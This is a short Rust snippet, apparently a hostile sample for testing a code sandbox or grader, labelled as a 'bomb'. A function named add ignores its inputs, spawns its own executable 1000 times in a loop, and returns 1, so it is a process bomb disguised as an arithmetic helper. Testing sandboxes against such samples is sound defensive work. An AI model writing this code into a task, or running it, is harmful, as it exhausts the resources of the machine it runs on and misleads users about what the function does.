// Tries: start its own executable again and again
// Kind: bomb

pub fn add(_: i64, _: i64) -> i64 {
    let own = std::env::args().next().unwrap();
    for _ in 0..1000 { let _ = std::process::Command::new(&own).spawn(); }
    1
}
